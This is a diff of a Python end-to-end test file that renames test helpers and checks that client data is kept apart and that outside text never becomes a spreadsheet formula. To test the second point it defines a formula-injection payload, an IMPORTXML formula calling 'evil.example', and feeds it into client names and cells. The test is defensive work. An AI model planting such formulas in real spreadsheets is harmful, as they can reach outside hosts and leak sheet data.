@@ -17,8 +17,8 @@ from tests.e2e.failures.scene import (
     sheet_of,
     start,
 )
-from tests.e2e.witness import FIELDS, assert_told, difference
-from tests.office import MANAGER, TEAM, WEBHOOK_SECRET, Office
+from tests.harness.office import MANAGER, TEAM, WEBHOOK_SECRET, Office
+from tests.harness.witness import FIELDS, assert_told, difference
 
 EVIL = '=IMPORTXML("http://evil.example";"//a")'
 
@@ -244,10 +244,10 @@ CHOICES = "sheets.data.rowData.values.dataValidation"
 def test_failure_16_a_guest_finds_nothing_internal(office: Office) -> None:
     """No cell, note, hidden thing, metadata, name, protection or property speaks of others or of secrets."""
     assert office.agency is not None
-    office.welcome(client_name="Стоматология «Улыбка»", project_name="Реклама", code="УЛБ")
+    office.create_client(client_name="Стоматология «Улыбка»", project_name="Реклама", code="УЛБ")
     in_work(office, {"task": "Тайный заказ", "work_type": "Лендинг", "hours_development": "33"})
     other_id = office.client_id
-    office.welcome(client_name="Кофейня", project_name="Меню", code="КФН")
+    office.create_client(client_name="Кофейня", project_name="Меню", code="КФН")
     in_work(office, *BACKLOG, {"task": "Не влезет", "hours_development": "30"})
     move_card(office, "Статья", 3)
     office.kaiten("POST", f"/cards/{office.cards()[0]['id']}/comments", text="Клиент зануда")
@@ -294,7 +294,7 @@ def test_failure_17_text_from_outside_is_never_a_formula(office: Office) -> None
     start_at = {"sheetId": tab.sheet_id, "rowIndex": tab.header_index + 1, "columnIndex": tab.column("name")}
     name = {"rows": [{"values": [{"userEnteredValue": {"stringValue": EVIL}}]}], "fields": "userEnteredValue"}
     send(office, {"updateCells": {"start": start_at, **name}}, spreadsheet_id=agency_id)
-    office.welcome(client_name=EVIL, project_name="=1+1", code="ЗЛО", responsible="@SUM(1)")
+    office.create_client(client_name=EVIL, project_name="=1+1", code="ЗЛО", responsible="@SUM(1)")
     # Pasted: what is typed with an equals sign in front is a formula of the person who types it.
     office.paste_backlog(
         [{"task": EVIL, "result": "=A1", "hours.design": 2.0}, {"task": "+7 (495)", "work_type": "-1+1"}]
